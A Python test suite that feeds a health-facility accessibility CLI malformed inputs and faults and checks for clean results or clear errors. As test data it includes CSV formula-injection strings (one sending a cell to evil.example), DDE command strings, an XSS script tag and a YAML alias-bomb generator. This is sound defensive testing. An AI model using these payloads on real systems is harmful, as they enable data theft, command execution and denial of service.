"""Hostile inputs through the command line: every case ends in a right answer or one clear error.

Each case builds a tiny generated study (the 4 x 4 km street grid of
``conftest.write_study``), breaks it in one way (a malformed file, a hostile
string, a fault such as an unwritable output folder or a scheduler that never
answers) and runs ``healthreach audit``, ``scenario``, ``compare`` or
``batch`` on it. The contract checked for every case:

- the command ends within a time limit (no hang; hang-prone cases run in a
  subprocess with a wall-clock limit and an address-space cap);
- no traceback anywhere in the output, and no control character a user typed
  reaches the terminal;
- no file outside the output folder is changed, deleted or created (every
  input folder is hashed before and after the run);
- then either exit status 0 with correct figures (those of the same study
  without the hostile part, where the hostile part cannot change them), and
  text cells of every CSV/XLSX output inert (no live formula, no text
  starting with ``= + - @``, tab or carriage return), or exit status
  ``INPUT_ERROR_EXIT`` with one short message that names the culprit: the
  file, key, row or id. Where the issue allows either an error or a counted
  note (dropped or repaired data), a success must carry a note that names
  what was dropped and how many.

The assertions are about behaviour, not wording: a culprit is matched as any
of a few tokens (a file name, a key), so messages may be reworded freely.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import socket
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import rasterio
import shapely
import yaml
from conftest import CRS, X0, Y0, grid_roads, write_study
from hostile_harness import (
    TIME_LIMIT_S,
    Outcome,
    invoke,
    problems_common,
    problems_error,
    problems_inert_files,
    problems_inputs_unchanged,
    problems_note,
    problems_success,
    run_subprocess,
    snapshot,
)
from pyproj import Transformer
from rasterio.transform import from_origin

TO_LONLAT = Transformer.from_crs(CRS, 4326, always_xy=True)
SUBPROCESS_LIMIT_S = 20.0  # hang-prone cases: start-up (~3 s) plus a bounded failure

# Strings a user may type into any name or id. None of them may crash, inject, or reach the terminal raw.
HOSTILE = {
    "control": "ctl\x01\x07\x08\x1b[2J\x0b\x0c\x7fend",
    "markup": "x [/] y [bold red]z[/bold red] [link=file:///etc/passwd]w",
    "formula": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_cr": "\t=1+1\r=2+2",
    "bidi_zero_width": "\u202eexe.txt\u200b\u200d\u2066\ufeff名\u200f",
    "long": "很长的名字" * 2000,
    "newline_html": "a\nb</script><script>alert(1)</script>",
}


# --- the study every case starts from -------------------------------------------------------------------

@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """The clean study folder, written once; cases copy it."""
    return write_study(tmp_path_factory.mktemp("template") / "study").parent


@pytest.fixture(scope="module")
def reference(template, tmp_path_factory) -> dict[str, dict]:
    """The clean study's figures by standard id, from the audit command itself."""
    out = tmp_path_factory.mktemp("reference") / "out"
    outcome = invoke(["audit", template / "study.yaml", "--out", out, "--no-map"])
    assert outcome.exit_code == 0, outcome.text
    return {s["id"]: s for s in json.loads((out / "summary.json").read_text(encoding="utf-8"))["standards"]}


def copy_study(template: Path, where: Path) -> Path:
    """A fresh copy of the clean study in ``where``; returns its folder."""
    shutil.copytree(template, where)
    return where


def edit_study(folder: Path, **changes) -> None:
    data = yaml.safe_load((folder / "study.yaml").read_text(encoding="utf-8"))
    for key, value in changes.items():
        if isinstance(value, dict) and isinstance(data.get(key), dict):
            data[key] = {**data[key], **value}
        else:
            data[key] = value
    (folder / "study.yaml").write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")


def facility_rows(extra: list[dict] | None = None) -> list[dict]:
    """The template's two facilities (in metres on the grid) plus ``extra``."""
    base = [
        {"id": "CHC01", "name": "城东社区卫生服务中心", "type": "community_hc", "x": X0 + 800, "y": Y0 + 2000,
         "beds": 20, "ambulances": 0, "emergency": "false"},
        {"id": "THC01", "name": "白云镇中心卫生院", "type": "central_township_hc", "x": X0 + 3200, "y": Y0 + 2000,
         "beds": 40, "ambulances": 1, "emergency": "true"},
    ]
    return base + (extra or [])


def write_facilities(folder: Path, rows: list[dict], encoding: str = "utf-8") -> None:
    table = []
    for f in rows:
        lon, lat = TO_LONLAT.transform(f["x"], f["y"])
        table.append({k: v for k, v in f.items() if k not in ("x", "y")} | {"lon": round(lon, 8), "lat": round(lat, 8)})
    # every cell quoted: a carriage return inside a name stays inside its cell
    pd.DataFrame(table).to_csv(folder / "facilities.csv", index=False, encoding=encoding, quoting=csv.QUOTE_ALL)


def write_townships(folder: Path, names: list[str] | None = None, polygons: list | None = None,
                    classes: list[str] | None = None, crs: str = CRS) -> None:
    """Townships: by default the west (urban) and east (rural) halves cut into as many strips as ``names``."""
    names = ["城东街道", "白云镇"] if names is None else names
    if polygons is None:
        half = len(names) // 2 or 1
        polygons, classes = [], []
        for side, cls in ((0, "urban"), (1, "rural")):
            count = half if side == 0 else len(names) - half
            for k in range(count):
                polygons.append(shapely.box(X0 + 2000 * side, Y0 + 4000 * k / count,
                                            X0 + 2000 * (side + 1), Y0 + 4000 * (k + 1) / count))
                classes.append(cls)
    classes = ["urban", "rural"][: len(polygons)] if classes is None else classes
    gpd.GeoDataFrame({"code": [f"{i + 1:03d}" for i in range(len(polygons))], "name": names,
                      "class": classes}, geometry=polygons, crs=crs).to_file(folder / "townships.gpkg")


def write_population(folder: Path, people: np.ndarray, origin: tuple[float, float] = (X0, Y0 + 4000),
                     crs: str = CRS, nodata: float | None = -3.4028234663852886e38) -> None:
    with rasterio.open(folder / "population.tif", "w", driver="GTiff", width=people.shape[1], height=people.shape[0],
                       count=1, dtype="float32", crs=crs, transform=from_origin(*origin, 100, 100),
                       nodata=nodata) as dst:
        dst.write(people.astype(np.float32), 1)


def template_people() -> np.ndarray:
    people = np.full((40, 40), 1.0, np.float32)
    people[:, :20] = 2.5
    return people


def at_metres(x: float, y: float) -> dict:
    return {"x": float(X0 + x), "y": float(Y0 + y), "crs": CRS}


def write_scenario(folder: Path, name: str, study: Path, changes: list[dict], file: str = "plan.yaml") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / file
    path.write_text(yaml.safe_dump({"name": name, "study": str(study / "study.yaml"), "changes": changes},
                                   allow_unicode=True), encoding="utf-8")
    return path


def scenario_text_run(template: Path, tmp: Path, text: str) -> Run:
    """``healthreach scenario`` on a scenario file written as ``text`` (``{study}``: the clean study's file)."""
    s = copy_study(template, tmp / "s")
    plan = tmp / "plan.yaml"
    plan.write_text(text.replace("{study}", str(s / "study.yaml")), encoding="utf-8")
    return Run(["scenario", plan, "--out", tmp / "out", "--no-map"], [s, plan], tmp / "out")


def alias_bomb(levels: int = 9, width: int = 9) -> str:
    """A YAML 'billion laughs': ``width ** levels`` strings from a few hundred bytes."""
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines.extend(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * width) + "]" for i in range(1, levels))
    return "\n".join(lines) + "\n"


# --- cases ------------------------------------------------------------------------------------------------

@dataclass
class Run:
    """One prepared command: its arguments, the folders it must not change, its output folder (or file)."""

    args: list
    inputs: list[Path]
    out: Path | None
    subprocess: bool = False
    time_limit_s: float = TIME_LIMIT_S
    cwd: Path | None = None
    culprits: list[str] = field(default_factory=list)  # more tokens the error may name (paths known at build time)


@dataclass
class Case:
    """A hostile case: the class of failure it belongs to, how to build it, and what a correct run does.

    ``error``: tokens of which the error message must name one (file, key, row, id); ``None`` when an
    error is not an acceptable answer. ``ok``: a check of a successful run returning its problems;
    ``None`` when success is not acceptable. Both set: either answer is right.
    """

    cls: str
    id: str
    build: Callable[[Path, Path], Run]
    error: list[str] | None = None
    ok: Callable[[Outcome, Run, dict], list[str]] | None = None


CASES: list[Case] = []


EXIT_CODES: dict[str, int] = {}  # case id -> the command's exit status, for the tally


def case(cls: str, case_id: str, error: list[str] | None = None, ok=None):
    def register(build):
        CASES.append(Case(cls, case_id, build, error, ok))
        return build
    return register


def audit_run(folder: Path, out: Path, *more, inputs: list[Path] | None = None) -> Run:
    return Run(["audit", folder / "study.yaml", "--out", out, "--no-map", *more], inputs or [folder], out)


# --- checks of a successful run ---

def same_figures(o: Outcome, run: Run, reference: dict) -> list[str]:
    """The audit's summary.json has the clean study's figures, and every output is inert."""
    path = run.out / "summary.json"
    if not path.is_file():
        return [f"no {path.name} in the output folder"]
    got = {s["id"]: s for s in json.loads(path.read_text(encoding="utf-8"))["standards"]}
    problems = []
    for sid, ref in reference.items():
        mine = got.get(sid)
        if mine is None:
            problems.append(f"standard {sid} missing")
        elif (mine.get("covered_population"), mine.get("share"), mine.get("pass")) != (
                ref.get("covered_population"), ref.get("share"), ref.get("pass")):
            problems.append(f"{sid}: {mine.get('share')} / {mine.get('pass')}, expected {ref.get('share')} / "
                            f"{ref.get('pass')}")
    return problems + problems_inert_files(run.out)


def noted(*tokens: str):
    """Success is right only with a counted note naming one of ``tokens``; figures are not compared."""
    def check(o: Outcome, run: Run, reference: dict) -> list[str]:
        return problems_note(run.out, list(tokens)) + problems_inert_files(run.out)
    return check


def noted_people(total: float, *tokens: str):
    """Success is right only with a counted note naming one of ``tokens`` and exactly ``total`` people counted
    (the dropped cells' people left out, no others).
    """
    def check(o: Outcome, run: Run, reference: dict) -> list[str]:
        problems = problems_note(run.out, list(tokens)) + problems_inert_files(run.out)
        path = run.out / "summary.json"
        counted = json.loads(path.read_text(encoding="utf-8")).get("population") if path.is_file() else None
        if counted is None or abs(counted - total) > 0.5:
            problems.append(f"{counted} people counted, expected {total:,.1f}")
        return problems
    return check


def not_passing(*standards: str):
    """Success is right when none of ``standards`` reports PASS (a standard with no subject is not assessed)."""
    def check(o: Outcome, run: Run, reference: dict) -> list[str]:
        path = run.out / "summary.json"
        if not path.is_file():
            return ["no summary.json"]
        got = {s["id"]: s for s in json.loads(path.read_text(encoding="utf-8"))["standards"]}
        return [f"{sid} reports PASS with nothing to assess" for sid in standards
                if got.get(sid, {}).get("pass") is True]
    return check


def any_success(o: Outcome, run: Run, reference: dict) -> list[str]:
    return problems_inert_files(run.out) if run.out else []


# ===== 1. Lost data: an output folder that is, contains or lies inside an input folder ====================

INPUT_FOLDER_TOKENS = ["--out", "output"]


@case("lost data", "audit --out is the study folder", error=INPUT_FOLDER_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    return audit_run(s, s)


@case("lost data", "audit --out inside the study folder", error=INPUT_FOLDER_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    return audit_run(s, s / "out", inputs=[s])


@case("lost data", "audit --out contains the study folder", error=INPUT_FOLDER_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "root" / "s")
    return audit_run(s, tmp / "root")


@case("lost data", "audit --out is a symlink to the study folder", error=INPUT_FOLDER_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    (tmp / "link").symlink_to(s, target_is_directory=True)
    return audit_run(s, tmp / "link", inputs=[s])


@case("lost data", "audit --out . run from the study folder", error=INPUT_FOLDER_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    return Run(["audit", s / "study.yaml", "--out", ".", "--no-map"], [s], s, cwd=s)


@case("lost data", "audit --out is a folder holding a user's own files", error=["--out", "output", "--force"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    mine = tmp / "mine"
    mine.mkdir()
    (mine / "facilities.csv").write_text("my own table\n", encoding="utf-8")
    (mine / "notes.txt").write_text("keep me\n", encoding="utf-8")
    return Run(["audit", s / "study.yaml", "--out", mine, "--no-map"], [s, mine], None)


@case("lost data", "audit twice into its own output folder", ok=same_figures)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    first = invoke(["audit", s / "study.yaml", "--out", tmp / "out", "--no-map"])
    assert first.exit_code == 0, first.text
    return audit_run(s, tmp / "out")


@case("lost data", "scenario --out is the study folder", error=INPUT_FOLDER_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    plan = write_scenario(tmp, "more beds", s, [{"expand": "CHC01", "beds": 30}])
    return Run(["scenario", plan, "--out", s, "--no-map"], [s, tmp / "plan.yaml"], s)


@case("lost data", "scenario --out is the scenario's own folder", error=INPUT_FOLDER_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    plans = tmp / "plans"
    plans.mkdir()
    plan = write_scenario(plans, "more beds", s, [{"expand": "CHC01", "beds": 30}])
    (plans / "facilities.csv").write_text("a table the user keeps beside the plan\n", encoding="utf-8")
    return Run(["scenario", plan, "--out", plans, "--no-map"], [s, plans], plans)


@case("lost data", "compare --out is the study's facility table", error=["facilities.csv", "input", "study"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    plan = write_scenario(tmp, "more beds", s, [{"expand": "CHC01", "beds": 30}])
    return Run(["compare", plan, "--out", s / "facilities.csv"], [s], None)


@case("lost data", "compare --out is a scenario file", error=["plan.yaml", "scenario", "input"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    plans = tmp / "plans"
    plans.mkdir()
    plan = write_scenario(plans, "more beds", s, [{"expand": "CHC01", "beds": 30}])
    return Run(["compare", plan, "--out", plan], [s, plans], None)


# ===== 2. Bad strings in every name and id ================================================================

def _hostile_audit(template, tmp, key):
    s = copy_study(template, tmp / "s")
    text = HOSTILE[key]
    edit_study(s, name=text, description=text)
    write_townships(s, [f"{text} {i}" for i in range(4)])
    write_facilities(s, facility_rows([  # copies of CHC01 on its own site: every figure stays the same
        {"id": f"{text}#{i}", "name": text, "type": "community_hc", "x": X0 + 800, "y": Y0 + 2000, "beds": 0,
         "ambulances": 0, "emergency": "false"} for i in range(2)]))
    draw = ["--offline"] if key == "newline_html" else ["--no-map"]  # one map is enough to check its escaping
    return Run(["audit", s / "study.yaml", "--out", tmp / "out", *draw], [s], tmp / "out")


for _key in HOSTILE:
    case("bad strings", f"audit: {_key} in study, township and facility names and ids", ok=same_figures)(
        lambda template, tmp, key=_key: _hostile_audit(template, tmp, key))


def scenario_same_figures(o: Outcome, run: Run, reference: dict) -> list[str]:
    """Facilities added on an existing site change nothing: scenario = baseline = the clean study."""
    path = run.out / "standards.csv"
    if not path.is_file():
        return ["no standards.csv"]
    table = pd.read_csv(path, encoding="utf-8-sig").set_index("standard")
    problems = []
    for sid in ("primary_care_15min", "emergency_radius_urban", "emergency_response_18min"):
        if sid not in table.index:
            problems.append(f"standards.csv has no row {sid}")
            continue
        row = table.loc[sid]
        expected = reference[sid]["share"]
        if not np.isclose(row["scenario"], row["baseline"]) or (
                expected is not None and not np.isclose(row["baseline"], expected, atol=1e-4)):
            problems.append(f"{sid}: baseline {row['baseline']}, scenario {row['scenario']}, "
                            f"expected both {expected}")
    return problems + problems_inert_files(run.out)


@case("bad strings", "scenario: every hostile string as scenario name, added ids and names", ok=scenario_same_figures)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    adds = [{"add": f"{text}#{k}", "name": text, "type": "community_hc", "at": at_metres(800, 2000)}
            for k, text in HOSTILE.items()]
    plan = write_scenario(tmp / "plans", HOSTILE["markup"] + HOSTILE["control"] + HOSTILE["formula"], s, adds)
    return Run(["scenario", plan, "--out", tmp / "out", "--offline"], [s, plan], tmp / "out")


def compare_same_figures(o: Outcome, run: Run, reference: dict) -> list[str]:
    if not run.out.is_file():
        return ["no compare table"]
    table = pd.read_csv(run.out, encoding="utf-8-sig")
    problems = [f"compare: {row['scenario']!r}: primary_care_15min {row['primary_care_15min']}, expected "
                f"{reference['primary_care_15min']['share']}" for _, row in table.iterrows()
                if not np.isclose(row["primary_care_15min"], reference["primary_care_15min"]["share"], atol=1e-4)]
    return problems + problems_inert_files(run.out)


@case("bad strings", "compare: scenarios named with every hostile string", ok=compare_same_figures)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    plans = [write_scenario(tmp / "plans", text, s, [{"add": f"N{k}", "name": text, "type": "community_hc",
                                            "at": at_metres(800, 2000)}], file=f"plan-{k}.yaml")
             for k, text in HOSTILE.items()]
    return Run(["compare", *plans, "--out", tmp / "compare.csv"], [s, *plans], tmp / "compare.csv")


# ===== 3. YAML: alias bombs, duplicate keys, wrong types, huge numbers, NaN and inf ========================

@case("yaml", "study.yaml alias bomb under an unknown key", error=["study.yaml", "alias", "anchor"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    with (s / "study.yaml").open("a", encoding="utf-8") as f:
        f.write("bomb:\n" + "".join("  " + line + "\n" for line in alias_bomb().splitlines()))
    return Run(["audit", s / "study.yaml", "--out", tmp / "out", "--no-map"], [s], tmp / "out", subprocess=True,
               time_limit_s=SUBPROCESS_LIMIT_S)


@case("yaml", "study.yaml alias bomb as the study name", error=["study.yaml", "alias", "anchor", "name"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    text = (s / "study.yaml").read_text(encoding="utf-8")
    text = re.sub(r"(?m)^name:.*$", "name: *a8", text)
    (s / "study.yaml").write_text(alias_bomb() + text, encoding="utf-8")
    return Run(["audit", s / "study.yaml", "--out", tmp / "out", "--no-map"], [s], tmp / "out", subprocess=True,
               time_limit_s=SUBPROCESS_LIMIT_S)


@case("yaml", "scenario alias bomb as a change", error=["plan.yaml", "alias", "anchor", "changes"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    plan = tmp / "plan.yaml"
    plan.write_text(alias_bomb() + f"name: bomb\nstudy: {s / 'study.yaml'}\nchanges: *a8\n", encoding="utf-8")
    return Run(["scenario", plan, "--out", tmp / "out", "--no-map"], [s, plan], tmp / "out", subprocess=True,
               time_limit_s=SUBPROCESS_LIMIT_S)


@case("yaml", "study.yaml duplicate key grid_m", error=["grid_m", "duplicate"], ok=noted("duplicate"))
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    with (s / "study.yaml").open("a", encoding="utf-8") as f:
        f.write("grid_m: 100\ngrid_m: 200\n")
    return audit_run(s, tmp / "out")


@case("yaml", "study.yaml duplicate nested key roads.path", error=["roads.path", "duplicate"],
      ok=noted("duplicate"))
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    text = (s / "study.yaml").read_text(encoding="utf-8")
    text = text.replace("  path: roads.gpkg\n", "  path: roads.gpkg\n  path: townships.gpkg\n")
    (s / "study.yaml").write_text(text, encoding="utf-8")
    return audit_run(s, tmp / "out")


@case("yaml", "scenario duplicate key changes", error=["changes", "duplicate"], ok=noted("duplicate"))
def _(template, tmp):
    return scenario_text_run(template, tmp, "name: twice\nstudy: {study}\nchanges:\n  - close: CHC01\n"
                                            "changes:\n  - expand: CHC01\n    beds: 30\n")


STUDY_VALUES = {  # key -> (YAML text of a bad value, tokens the message must name)
    "grid_m as text": ("grid_m", "abc"),
    "grid_m NaN": ("grid_m", ".nan"),
    "grid_m inf": ("grid_m", ".inf"),
    "grid_m -inf": ("grid_m", "-.inf"),
    "grid_m 1e308": ("grid_m", "1.0e+308"),
    "grid_m 0.001": ("grid_m", "0.001"),
    "grid_m 5 (below 10 m)": ("grid_m", "5"),
    "grid_m 2500 (above 2 km)": ("grid_m", "2500"),
    "grid_m 5000 on a 4 km study": ("grid_m", "5000"),
    "name is a list": ("name", "[1, 2]"),
    "roads is a string": ("roads", "roads.gpkg"),
    "facilities is a number": ("facilities", "5"),
    "speeds_kmh is a list": ("speeds_kmh", "[20, 30]"),
    "speed inf": ("speeds_kmh", "{urban_branch: .inf}"),
    "speed NaN": ("speeds_kmh", "{urban_branch: .nan}"),
    "speed 1e308": ("speeds_kmh", "{urban_branch: 1.0e+308}"),
    "speed negative": ("speeds_kmh", "{urban_branch: -20}"),
    "speed as text": ("speeds_kmh", "{urban_branch: fast}"),
    "profile unknown": ("profile", "nonesuch"),
    "crs nonsense": ("crs", "EPSG:999999"),
}

for _id, (_key, _value) in STUDY_VALUES.items():
    _tokens = [_key] + (["urban_branch"] if _key == "speeds_kmh" else []) + (["nonesuch"] if _key == "profile" else [])

    def _build(template, tmp, key=_key, value=_value):
        s = copy_study(template, tmp / "s")
        text = (s / "study.yaml").read_text(encoding="utf-8")
        text = re.sub(rf"(?m)^{key}:.*(\n  .*)*\n?", "", text) + f"{key}: {value}\n"
        (s / "study.yaml").write_text(text, encoding="utf-8")
        limit = SUBPROCESS_LIMIT_S
        return Run(["audit", s / "study.yaml", "--out", tmp / "out", "--no-map"], [s], tmp / "out",
                   subprocess=key == "grid_m" and value == "0.001", time_limit_s=limit)

    case("yaml and settings", f"study.yaml {_id}", error=_tokens)(_build)


@case("yaml and settings", "roads.buffer_km NaN", error=["buffer_km"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    edit_study(s, roads={"buffer_km": float("nan")})
    return audit_run(s, tmp / "out")


@case("yaml and settings", "population.band 2 of a one-band raster", error=["band", "population"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    edit_study(s, population={"band": 2})
    return audit_run(s, tmp / "out")


@case("yaml and settings", "scenario beds 1e30", error=["beds"], ok=any_success)
def _(template, tmp):
    return scenario_text_run(template, tmp, "name: huge\nstudy: {study}\nchanges:\n  - expand: CHC01\n"
                                            f"    beds: {10**30}\n")


for _id, _site in {"lon .nan": "{lon: .nan, lat: 29.4}", "lat .inf": "{lon: 108.8, lat: .inf}",
                   "lon 1e308": "{lon: 1.0e+308, lat: 29.4}", "x -inf": f"{{x: -.inf, y: {Y0}, crs: '{CRS}'}}"}.items():
    def _build(template, tmp, site=_site):
        s = copy_study(template, tmp / "s")
        plan = tmp / "plan.yaml"
        plan.write_text(f"name: bad site\nstudy: {s / 'study.yaml'}\nchanges:\n  - add: N1\n    name: new\n"
                        f"    type: community_hc\n    at: {site}\n", encoding="utf-8")
        return Run(["scenario", plan, "--out", tmp / "out", "--no-map"], [s, plan], tmp / "out")

    case("yaml and settings", f"scenario site {_id}", error=["N1", "lon", "lat", "x"])(_build)
    case("yaml and settings", f"compare with a scenario site {_id}", error=["N1", "lon", "lat", "x"])(
        lambda template, tmp, b=_build: Run(["compare", b(template, tmp).args[1], "--out", tmp / "c.csv"],
                                            [tmp / "s", tmp / "plan.yaml"], tmp / "c.csv"))


# ===== 4. The output folder: unwritable, under a file ======================================================

def _unwritable(tmp: Path) -> Path:
    """A folder this process cannot create: under /sys for root (chmod does not stop root), else a read-only one."""
    if os.geteuid() == 0:
        return Path("/sys/healthreach-hostile-out")
    locked = tmp / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    return locked / "out"


OUT_TOKENS = ["--out", "output"]


@case("output folder", "audit --out unwritable", error=OUT_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    return Run(["audit", s / "study.yaml", "--out", _unwritable(tmp), "--no-map"], [s], None)


@case("output folder", "audit --out under a file", error=OUT_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    (tmp / "a-file").write_text("x", encoding="utf-8")
    return Run(["audit", s / "study.yaml", "--out", tmp / "a-file" / "out", "--no-map"], [s, tmp / "a-file"], None)


@case("output folder", "scenario --out unwritable", error=OUT_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    plan = write_scenario(tmp, "more beds", s, [{"expand": "CHC01", "beds": 30}])
    return Run(["scenario", plan, "--out", _unwritable(tmp), "--no-map"], [s, plan], None)


@case("output folder", "scenario --out under a file", error=OUT_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    plan = write_scenario(tmp, "more beds", s, [{"expand": "CHC01", "beds": 30}])
    return Run(["scenario", plan, "--out", plan / "out", "--no-map"], [s, plan], None)


@case("output folder", "compare --out under a file", error=OUT_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    plan = write_scenario(tmp, "more beds", s, [{"expand": "CHC01", "beds": 30}])
    (tmp / "a-file").write_text("x", encoding="utf-8")
    return Run(["compare", plan, "--out", tmp / "a-file" / "c.csv"], [s, plan, tmp / "a-file"], None)


# ===== 5. Population rasters =================================================================================

POP_TOKENS = ["population.tif", "population"]


@case("population", "all-zero raster", error=POP_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_population(s, np.zeros((40, 40)))
    return audit_run(s, tmp / "out")


@case("population", "all-nodata raster", error=POP_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_population(s, np.full((40, 40), -3.4028234663852886e38))
    return audit_run(s, tmp / "out")


@case("population", "raster 200 km from the study area", error=POP_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_population(s, template_people(), origin=(X0 + 200_000, Y0 + 4000))
    return audit_run(s, tmp / "out")


@case("population", "+inf cells", error=POP_TOKENS, ok=noted_people(2800 - 2.5 - 1, "inf", "finite"))
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    people = template_people()
    people[5, 5] = people[30, 30] = np.inf
    write_population(s, people)
    return audit_run(s, tmp / "out")


@case("population", "NaN cells with no nodata declared", error=POP_TOKENS,
      ok=noted_people(2800 - 9 * 2.5, "nan", "finite", "missing"))
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    people = template_people()
    people[5:8, 5:8] = np.nan
    write_population(s, people, nodata=None)
    return audit_run(s, tmp / "out")


@case("population", "negative cells", error=POP_TOKENS, ok=noted_people(2800 - 10 * 2.5, "negative"))
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    people = template_people()
    people[10, 10:20] = -50
    write_population(s, people)
    return audit_run(s, tmp / "out")


@case("population", "raster declared in degrees (EPSG:4326) holding metres", error=[*POP_TOKENS, "crs", "EPSG"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_population(s, template_people(), crs="EPSG:4326")
    return audit_run(s, tmp / "out")


@case("population", "truncated GeoTIFF", error=["population.tif"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    data = (s / "population.tif").read_bytes()
    (s / "population.tif").write_bytes(data[:300])
    return audit_run(s, tmp / "out")


# ===== 6. Facility tables ====================================================================================

FAC_TOKENS = ["facilities.csv"]


@case("facilities", "header-only facility file", error=FAC_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    (s / "facilities.csv").write_text("id,name,type,beds,ambulances,emergency,lon,lat\n", encoding="utf-8")
    return audit_run(s, tmp / "out")


@case("facilities", "empty (0-byte) facility file", error=FAC_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    (s / "facilities.csv").write_bytes(b"")
    return audit_run(s, tmp / "out")


@case("facilities", "binary garbage as the facility file", error=FAC_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    (s / "facilities.csv").write_bytes(bytes(range(256)) * 8)
    return audit_run(s, tmp / "out")


@case("facilities", "duplicate facility ids", error=["CHC01"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_facilities(s, facility_rows([{**facility_rows()[0], "x": X0 + 2400}]))
    return audit_run(s, tmp / "out")


@case("facilities", "a facility with an empty lon", error=["THC01", "row 3", "lon"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_facilities(s, facility_rows())
    lines = (s / "facilities.csv").read_text(encoding="utf-8").splitlines()
    cells = lines[2].split(",")
    cells[-2] = ""
    lines[2] = ",".join(cells)
    (s / "facilities.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return audit_run(s, tmp / "out")


@case("facilities", "GBK-encoded facility file", error=FAC_TOKENS, ok=same_figures)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_facilities(s, facility_rows(), encoding="gbk")
    return audit_run(s, tmp / "out")


@case("facilities", "no emergency facility: emergency standards never PASS", error=[*FAC_TOKENS, "emergency"],
      ok=not_passing("emergency_radius_urban", "emergency_radius_rural_10km", "emergency_radius_rural_20km",
                     "emergency_response_18min"))
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_facilities(s, [{**f, "emergency": "false"} for f in facility_rows()])
    return audit_run(s, tmp / "out")


@case("facilities", "facility coordinates declared EPSG:4545 but given in degrees",
      error=[*FAC_TOKENS, "crs", "EPSG:4545"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    edit_study(s, facilities={"crs": CRS})
    return audit_run(s, tmp / "out")


# ===== 7. Road layers ========================================================================================

ROAD_TOKENS = ["roads.gpkg", "roads"]


def _roads(folder: Path, frame: gpd.GeoDataFrame) -> None:
    (folder / "roads.gpkg").unlink()
    frame.to_file(folder / "roads.gpkg", layer="roads")


@case("roads", "roads 300 km from the study area", error=["roads.gpkg", " roads "])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    roads = grid_roads()
    roads["geometry"] = roads.geometry.translate(300_000, 0)
    _roads(s, roads)
    return audit_run(s, tmp / "out")


@case("roads", "empty road layer", error=ROAD_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    _roads(s, grid_roads().iloc[:0])
    return audit_run(s, tmp / "out")


@case("roads", "null road geometries", error=ROAD_TOKENS, ok=noted("geometr", "null", "empty"))
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    roads = grid_roads()
    roads.loc[[3, 7, 11], "geometry"] = None
    _roads(s, roads)
    return audit_run(s, tmp / "out")


@case("roads", "negative speeds in the speed column", error=["speed"], ok=noted("negative"))
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    roads = grid_roads()
    roads["speed"] = 30.0
    roads.loc[roads.index[::7], "speed"] = -30.0
    _roads(s, roads)
    edit_study(s, roads={"speed_column": "speed"})
    return audit_run(s, tmp / "out")


@case("roads", "road layer declared EPSG:4326 holding metres", error=[*ROAD_TOKENS, "crs", "EPSG"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    _roads(s, grid_roads().set_crs("EPSG:4326", allow_override=True))
    return audit_run(s, tmp / "out")


@case("roads", "truncated GeoPackage", error=["roads.gpkg"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    data = (s / "roads.gpkg").read_bytes()
    (s / "roads.gpkg").write_bytes(data[: len(data) // 3])
    return audit_run(s, tmp / "out")


